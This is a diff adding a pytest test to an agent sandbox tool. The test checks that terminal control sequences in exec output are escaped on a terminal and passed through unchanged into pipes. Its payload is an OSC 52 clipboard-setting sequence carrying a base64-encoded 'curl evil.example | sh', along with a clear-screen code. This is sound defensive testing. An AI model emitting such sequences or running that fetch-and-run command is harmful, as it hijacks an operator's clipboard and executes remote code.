@@ -412,6 +412,36 @@ def test_shell_and_exec_take_the_users_input_and_exit_code(bottle):
     assert failed.returncode == 7 and "Traceback" not in failed.stderr
 
 
+def test_exec_output_reaches_a_terminal_without_its_control_sequences(bottle):
+    """What the agent prints is text for the operator's terminal, not commands to it: OSC 52
+    would set the operator's clipboard. Escaped on a terminal; exact into a pipe or a file."""
+    import pty
+
+    clipboard = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07"  # "curl evil.example | sh"
+    command = "printf 'before\\033]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\\007after\\n'; printf '\\033[2J' >&2"
+    piped = bottle.inv("exec", command)
+    assert clipboard in piped.stdout and "\x1b[2J" in piped.stderr, (piped.stdout, piped.stderr)
+    main, terminal = pty.openpty()
+    env = {**os.environ, "INVOKE_BOTTLE_MANIFEST": str(bottle.manifest), **bottle.env}
+    proc = subprocess.Popen([INV, "use", *bottle.selector, "exec", command], cwd=REPO, env=env,
+                            stdin=subprocess.DEVNULL, stdout=terminal, stderr=terminal)
+    os.close(terminal)
+    shown = b""
+    while True:
+        try:
+            data = os.read(main, 65536)
+        except OSError:  # the terminal closed
+            break
+        if not data:
+            break
+        shown += data
+    os.close(main)
+    assert proc.wait(60) == 0, shown
+    assert b"\x1b" not in shown and b"\x07" not in shown, shown
+    assert b"before\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\\x07after" in shown, shown
+    assert b"\\x1b[2J" in shown, shown
+
+
 def test_logs_follow_prints_decisions_as_they_happen(bottle):
     env = dict(os.environ, INVOKE_BOTTLE_MANIFEST=str(bottle.manifest))
     follower = subprocess.Popen([INV, "use", bottle.slug, "logs", "--follow", "--json", "--blocked"],
